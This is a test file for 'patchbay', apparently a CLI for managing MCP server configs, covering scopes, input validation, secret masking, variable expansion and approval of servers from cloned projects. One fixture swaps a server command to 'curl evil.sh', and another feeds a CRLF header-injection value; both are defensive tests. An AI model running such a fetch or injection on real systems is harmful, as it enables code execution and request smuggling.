/** The built binary, run as a user would: commands, scopes, exit codes, stdout/stderr. */

import { readFile, stat, writeFile } from 'node:fs/promises';
import { describe, expect, it, type TestContext } from 'vitest';
import { createSandbox, type Sandbox } from '../helpers/sandbox.js';

/**
 * A sandbox of the test's own, removed when it ends, so that the tests can run at once (each is a
 * few runs of the binary, mostly its start-up).
 */
async function ownSandbox({ onTestFinished }: TestContext): Promise<Sandbox> {
  const sandbox = await createSandbox();
  onTestFinished(() => sandbox.cleanup());
  return sandbox;
}

async function readJson(path: string): Promise<Record<string, unknown>> {
  return JSON.parse(await readFile(path, 'utf8')) as Record<string, unknown>;
}

describe.concurrent('add, list, get, remove', () => {
  it('adds an http server to the local scope by default and lists it', async (context) => {
    const sandbox = await ownSandbox(context);
    const added = await sandbox.run(['add', 'notion', 'https://mcp.notion.com/mcp']);
    expect(added.code).toBe(0);
    expect(added.stdout).toBe('');
    expect(added.stderr).toContain('Added http server notion');
    const config = await readJson(sandbox.userConfig);
    expect(config).toEqual({
      projects: {
        [sandbox.project]: { mcpServers: { notion: { type: 'http', url: 'https://mcp.notion.com/mcp' } } },
      },
    });
    expect((await stat(sandbox.userConfig)).mode & 0o777).toBe(0o600);

    const list = await sandbox.run(['list', '--no-check', '--json']);
    expect(list.code).toBe(0);
    const views = JSON.parse(list.stdout) as Array<Record<string, unknown>>;
    expect(views).toHaveLength(1);
    expect(views[0]).toMatchObject({
      name: 'notion',
      scope: 'local',
      transport: 'http',
      url: 'https://mcp.notion.com/mcp',
      status: 'unchecked',
      reason: null,
    });
  });

  it('a URL without -t is http, never stdio; a non-URL without "--" is refused', async (context) => {
    const sandbox = await ownSandbox(context);
    const refused = await sandbox.run(['add', 'x', 'npx']);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain('is not a URL');
    expect(refused.stderr).toContain('patchbay add x -- npx');
    const sse = await sandbox.run(['add', '-t', 'sse', 'legacy', 'https://example.com/sse']);
    expect(sse.code).toBe(0);
    const stdio = await sandbox.run([
      'add',
      '-e',
      'A=1',
      '-e',
      'B=x,y=z',
      'files',
      '--',
      'npx',
      '-y',
      'server',
      '--flag',
    ]);
    expect(stdio.code).toBe(0);
    const config = await readJson(sandbox.userConfig);
    const servers = (config.projects as Record<string, { mcpServers: Record<string, unknown> }>)[
      sandbox.project
    ]!.mcpServers;
    expect(servers.legacy).toEqual({ type: 'sse', url: 'https://example.com/sse' });
    expect(servers.files).toEqual({
      type: 'stdio',
      command: 'npx',
      args: ['-y', 'server', '--flag'],
      env: { A: '1', B: 'x,y=z' },
    });
  });

  it("writes .mcp.json in exactly Claude Code's format and preserves unknown keys and entries", async (context) => {
    const sandbox = await ownSandbox(context);
    await writeFile(
      sandbox.projectConfig,
      JSON.stringify(
        {
          mcpServers: { existing: { command: 'node', args: ['x.js'], customKey: { keep: true } } },
          otherTool: [1, 2],
        },
        null,
        4,
      ),
    );
    const added = await sandbox.run([
      'add',
      '-s',
      'project',
      '-H',
      'X-Api-Key: ${API_KEY}',
      'api',
      'https://api.example.com/mcp',
    ]);
    expect(added.code).toBe(0);
    const text = await readFile(sandbox.projectConfig, 'utf8');
    expect(text).toContain('\n    "mcpServers"'); // the file's own indentation is kept
    expect(JSON.parse(text)).toEqual({
      mcpServers: {
        existing: { command: 'node', args: ['x.js'], customKey: { keep: true } },
        api: { type: 'http', url: 'https://api.example.com/mcp', headers: { 'X-Api-Key': '${API_KEY}' } },
      },
      otherTool: [1, 2],
    });
  });

  it('refuses duplicates with a hint, and --force replaces', async (context) => {
    const sandbox = await ownSandbox(context);
    await sandbox.run(['add', 'a', 'https://a.example.com/mcp']);
    const duplicate = await sandbox.run(['add', 'a', 'https://b.example.com/mcp']);
    expect(duplicate.code).toBe(2);
    expect(duplicate.stderr).toContain('already exists in the local scope');
    expect(duplicate.stderr).toContain('--force');
    const forced = await sandbox.run(['add', '--force', 'a', 'https://b.example.com/mcp']);
    expect(forced.code).toBe(0);
    const got = await sandbox.run(['get', 'a', '--no-check', '--json']);
    expect(JSON.parse(got.stdout)).toMatchObject({ url: 'https://b.example.com/mcp' });
  });

  it('precedence is local > project > user, and list/get show what is shadowed', async (context) => {
    const sandbox = await ownSandbox(context);
    await sandbox.run(['add', '-s', 'user', 'svc', 'https://user.example.com/mcp']);
    await sandbox.run(['add', '-s', 'project', 'svc', 'https://project.example.com/mcp']);
    await sandbox.run(['add', '-s', 'local', 'svc', 'https://local.example.com/mcp']);
    const got = JSON.parse((await sandbox.run(['get', 'svc', '--no-check', '--json'])).stdout) as Record<
      string,
      unknown
    >;
    expect(got.scope).toBe('local');
    expect(got.url).toBe('https://local.example.com/mcp');
    expect((got.shadows as Array<{ scope: string }>).map((s) => s.scope)).toEqual(['project', 'user']);
    const removed = await sandbox.run(['remove', 'svc']);
    expect(removed.code).toBe(2);
    expect(removed.stderr).toContain('several scopes');
    expect(removed.stderr).toContain('patchbay remove svc -s local');
    expect((await sandbox.run(['remove', 'svc', '-s', 'local'])).code).toBe(0);
    const after = JSON.parse((await sandbox.run(['get', 'svc', '--no-check', '--json'])).stdout) as Record<
      string,
      unknown
    >;
    expect(after.scope).toBe('project');
  });

  it('unknown names suggest the closest match', async (context) => {
    const sandbox = await ownSandbox(context);
    await sandbox.run(['add', 'notion', 'https://mcp.notion.com/mcp']);
    const got = await sandbox.run(['get', 'notoin']);
    expect(got.code).toBe(2);
    expect(got.stderr).toContain('No server named "notoin"');
    expect(got.stderr).toContain('Did you mean notion?');
    const removed = await sandbox.run(['remove', 'notoin']);
    expect(removed.stderr).toContain('Did you mean notion?');
  });

  it('names like __proto__ and constructor are ordinary names', async (context) => {
    const sandbox = await ownSandbox(context);
    for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
      const added = await sandbox.run(['add', name, `https://${name.replace(/_/g, 'x')}.example.com/mcp`]);
      expect(added.code, added.stderr).toBe(0);
    }
    const list = JSON.parse((await sandbox.run(['list', '--no-check', '--json'])).stdout) as Array<{
      name: string;
    }>;
    expect(list.map((view) => view.name).sort()).toEqual([
      '__proto__',
      'constructor',
      'hasOwnProperty',
      'toString',
    ]);
    expect((await sandbox.run(['remove', '__proto__'])).code).toBe(0);
    const config = await readFile(sandbox.userConfig, 'utf8');
    expect(config).not.toContain('__proto__');
    expect(config).toContain('constructor');
  });
});

describe.concurrent('bad input: exit 2 and a message naming the input and the fix', () => {
  const cases: Array<[string, string[], string]> = [
    ['empty name', ['add', '', 'https://x.example.com'], 'it is empty'],
    ['long name', ['add', 'a'.repeat(65), 'https://x.example.com'], 'at most 64'],
    ['bad character', ['add', 'my.server', 'https://x.example.com'], 'contains "."'],
    ['relative URL', ['add', 'a', 'example.com/mcp'], 'has no scheme (https:// or http://)'], // see first-hour.test.ts,
    ['ftp URL', ['add', 'a', 'ftp://example.com/'], 'ftp: is not supported'],
    [
      'header without colon',
      ['add', '-H', 'Authorization Bearer x', 'a', 'https://x.example.com'],
      'expected "Name: value"',
    ],
    [
      'header with bad name',
      ['add', '-H', 'Bad Name: x', 'a', 'https://x.example.com'],
      'is not an HTTP token',
    ],
    ['env without =', ['add', '-e', 'NOVALUE', 'a', '--', 'cmd'], 'expected KEY=value'],
    ['env on a URL', ['add', '-e', 'A=1', 'a', 'https://x.example.com'], 'applies to stdio'],
    ['header on stdio', ['add', '-H', 'A: b', 'a', '--', 'cmd'], 'applies to http and sse'],
    ['bad scope', ['add', '-s', 'global', 'a', 'https://x.example.com'], 'expected local, project or user'],
    ['bad transport', ['add', '-t', 'ws', 'a', 'https://x.example.com'], 'Allowed choices'],
    ['URL with -t stdio after --', ['add', '-t', 'http', 'a', '--', 'cmd'], 'takes a URL'],
    [
      'bad callback port',
      ['add', '--callback-port', '70000', 'a', 'https://x.example.com'],
      '--callback-port',
    ],
    ['bad list timeout', ['list', '--timeout', 'soon'], '--timeout: "soon" is not a duration'],
    ['bad add-json', ['add-json', 'a', '{"type":"http"'], '<json>:1:'],
    ['add-json wrong shape', ['add-json', 'a', '{"type":"http","url":42}'], 'url: expected a URL string'],
  ];
  for (const [label, args, message] of cases) {
    it(label, async (context) => {
      const sandbox = await ownSandbox(context);
      const result = await sandbox.run(args);
      expect(result.code, result.stderr).toBe(2);
      expect(result.stderr).toContain(message);
      expect(result.stdout).toBe('');
    });
  }

  it('a header value with CR/LF is refused', async (context) => {
    const sandbox = await ownSandbox(context);
    const result = await sandbox.run(['add', '-H', 'X-A: one\r\nX-B: two', 'a', 'https://x.example.com']);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('line break');
  });

  it('plain http to a non-loopback host warns but works; loopback does not warn', async (context) => {
    const sandbox = await ownSandbox(context);
    const remote = await sandbox.run(['add', 'a', 'http://example.com/mcp']);
    expect(remote.code).toBe(0);
    expect(remote.stderr).toContain('warning: URL http://example.com uses plain http');
    const local = await sandbox.run(['add', 'b', 'http://127.0.0.1:3000/mcp']);
    expect(local.stderr).not.toContain('warning');
  });

  it('a literal secret in the project scope draws a warning suggesting ${VAR}', async (context) => {
    const sandbox = await ownSandbox(context);
    const result = await sandbox.run([
      'add',
      '-s',
      'project',
      '-H',
      'Authorization: Bearer sk-live-123',
      'a',
      'https://x.example.com/mcp',
    ]);
    expect(result.code).toBe(0);
    expect(result.stderr).toContain('holds a literal secret');
    expect(result.stderr).toContain('${');
    expect(result.stderr).not.toContain('sk-live-123');
    const templated = await sandbox.run([
      'add',
      '-s',
      'project',
      '-H',
      'Authorization: Bearer ${TOKEN}',
      'b',
      'https://x.example.com/mcp',
    ]);
    expect(templated.stderr).not.toContain('literal secret');
  });
});

/** Two servers whose definitions hold secrets. */
async function sandboxWithSecrets(context: TestContext): Promise<Sandbox> {
  const sandbox = await ownSandbox(context);
  await sandbox.run([
    'add',
    '-H',
    'Authorization: Bearer sk-secret-value',
    '-H',
    'X-Team: blue',
    'a',
    'https://user:hunter2@x.example.com/mcp?api_key=abc123&region=eu',
  ]);
  await sandbox.run([
    'add',
    '-e',
    'GITHUB_TOKEN=ghp_secret',
    '-e',
    'DEBUG=1',
    'b',
    '--',
    'server',
    '--api-key',
    'k-secret',
  ]);
  return sandbox;
}

describe.concurrent('secrets are masked everywhere unless --show-secrets', () => {
  it('in the confirmation of add', async (context) => {
    const sandbox = await sandboxWithSecrets(context);
    const added = await sandbox.run(['add', 'c', '--', 'server', '--token=t-secret']);
    expect(added.stderr).toContain('--token=****');
    expect(added.stderr).not.toContain('t-secret');
  });

  it('in list and get, human and --json', async (context) => {
    const sandbox = await sandboxWithSecrets(context);
    const outputs = await Promise.all([
      sandbox.run(['list', '--no-check']),
      sandbox.run(['list', '--no-check', '--json']),
      sandbox.run(['get', 'a', '--no-check']),
      sandbox.run(['get', 'a', '--no-check', '--json', '--resolved']),
      sandbox.run(['get', 'b', '--no-check']),
      sandbox.run(['get', 'b', '--no-check', '--json']),
    ]);
    for (const output of outputs) {
      const text = output.stdout + output.stderr;
      for (const secret of ['sk-secret-value', 'hunter2', 'abc123', 'ghp_secret', 'k-secret'])
        expect(text).not.toContain(secret);
    }
    const detail = JSON.parse(outputs[3]!.stdout) as { headers: Record<string, string>; url: string };
    expect(detail.headers).toEqual({ Authorization: 'Bearer ****', 'X-Team': 'blue' });
    expect(detail.url).toBe('https://user:****@x.example.com/mcp?api_key=****&region=eu');
    const stdio = JSON.parse(outputs[5]!.stdout) as { env: Record<string, string>; args: string[] };
    expect(stdio.env).toEqual({ GITHUB_TOKEN: '****', DEBUG: '1' });
    expect(stdio.args).toEqual(['--api-key', '****']);
  });

  it('--show-secrets reveals them', async (context) => {
    const sandbox = await sandboxWithSecrets(context);
    const got = await sandbox.run(['get', 'a', '--no-check', '--json', '--show-secrets']);
    expect(JSON.parse(got.stdout)).toMatchObject({ headers: { Authorization: 'Bearer sk-secret-value' } });
  });
});

interface ResolvedView {
  url: string;
  headers: Record<string, string>;
  resolved: { url: string; headers: Record<string, string> };
}

describe.concurrent('${VAR} expansion', () => {
  it('shows the template, --resolved the masked value, and an unset variable fails that server only', async (context) => {
    const sandbox = await ownSandbox(context);
    await sandbox.run([
      'add',
      '-H',
      'Authorization: Bearer ${MY_TOKEN}',
      'a',
      'https://${HOST:-x.example.com}/mcp',
    ]);
    await sandbox.run(['add', 'b', 'https://b.example.com/mcp']);
    const env = { MY_TOKEN: 'tok-123' };
    const got = JSON.parse(
      (await sandbox.run(['get', 'a', '--no-check', '--json', '--resolved'], { env })).stdout,
    ) as ResolvedView;
    expect(got.url).toBe('https://${HOST:-x.example.com}/mcp');
    expect(got.headers.Authorization).toBe('Bearer ${MY_TOKEN}');
    expect(got.resolved.url).toBe('https://x.example.com/mcp');
    expect(got.resolved.headers.Authorization).toBe('Bearer ****');

    const list = await sandbox.run(['list', '--no-check', '--json']);
    expect(list.code).toBe(8);
    const views = JSON.parse(list.stdout) as Array<Record<string, string>>;
    expect(views.find((view) => view.name === 'a')).toMatchObject({ status: 'failed' });
    expect(views.find((view) => view.name === 'a')!.reason).toContain('MY_TOKEN is not set');
    expect(views.find((view) => view.name === 'b')).toMatchObject({ status: 'unchecked' });
  });

  it('the default also applies when the variable is empty (POSIX :-)', async (context) => {
    const sandbox = await ownSandbox(context);
    await sandbox.run(['add', 'a', 'https://${HOST:-fallback.example.com}/mcp']);
    const got = JSON.parse(
      (await sandbox.run(['get', 'a', '--no-check', '--json', '--resolved'], { env: { HOST: '' } })).stdout,
    ) as ResolvedView;
    expect(got.resolved.url).toBe('https://fallback.example.com/mcp');
  });
});

describe.concurrent('project approval', () => {
  it('a server from a cloned .mcp.json is pending until approved, and pending again when it changes', async (context) => {
    const sandbox = await ownSandbox(context);
    await writeFile(
      sandbox.projectConfig,
      JSON.stringify({ mcpServers: { tools: { command: 'node', args: ['tools.js'] } } }),
    );
    let view = JSON.parse((await sandbox.run(['get', 'tools', '--json'])).stdout) as Record<string, string>;
    expect(view.status).toBe('pending-approval');
    const list = await sandbox.run(['list']);
    expect(list.code).toBe(5);
    expect(list.stdout).toContain('pending-approval');
    expect(list.stdout).toContain('patchbay approve tools');

    expect((await sandbox.run(['approve', 'tools'])).code).toBe(0);
    view = JSON.parse((await sandbox.run(['get', 'tools', '--json', '--no-check'])).stdout) as Record<
      string,
      string
    >;
    expect(view.status).toBe('unchecked');
    // Approvals live in the user's config, never in the project.
    expect(await readFile(sandbox.projectConfig, 'utf8')).not.toContain('approved');
    expect(await readFile(sandbox.userConfig, 'utf8')).toContain('approved');

    // A cloned repo swaps the command: pending again.
    await writeFile(
      sandbox.projectConfig,
      JSON.stringify({ mcpServers: { tools: { command: 'curl', args: ['evil.sh'] } } }),
    );
    view = JSON.parse((await sandbox.run(['get', 'tools', '--json'])).stdout) as Record<string, string>;
    expect(view.status).toBe('pending-approval');

    expect((await sandbox.run(['reject', 'tools'])).code).toBe(0);
    view = JSON.parse((await sandbox.run(['get', 'tools', '--json'])).stdout) as Record<string, string>;
    expect(view.status).toBe('disabled');

    expect((await sandbox.run(['reset-project-choices'])).code).toBe(0);
    view = JSON.parse((await sandbox.run(['get', 'tools', '--json'])).stdout) as Record<string, string>;
    expect(view.status).toBe('pending-approval');
    expect((await sandbox.run(['approve', '--all'])).code).toBe(0);
    view = JSON.parse((await sandbox.run(['get', 'tools', '--json', '--no-check'])).stdout) as Record<
      string,
      string
    >;
    expect(view.status).toBe('unchecked');
  });

  it('approve refuses names that are not project servers', async (context) => {
    const sandbox = await ownSandbox(context);
    await sandbox.run(['add', 'mine', 'https://x.example.com/mcp']);
    const result = await sandbox.run(['approve', 'mine']);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('not a project one');
  });
});

describe.concurrent('help and exit codes', () => {
  it('documents the exit codes', async (context) => {
    const sandbox = await ownSandbox(context);
    const result = await sandbox.run(['help', 'exit-codes']);
    expect(result.code).toBe(0);
    for (const code of ['0', '1', '2', '4', '8'])
      expect(result.stdout).toMatch(new RegExp(`^\\s+${code}\\s`, 'm'));
  });

  it('--help has examples; unknown commands exit 2', async (context) => {
    const sandbox = await ownSandbox(context);
    const help = await sandbox.run(['add', '--help']);
    expect(help.code).toBe(0);
    expect(help.stdout).toContain('Examples:');
    const unknown = await sandbox.run(['frobnicate']);
    expect(unknown.code).toBe(2);
  });
});
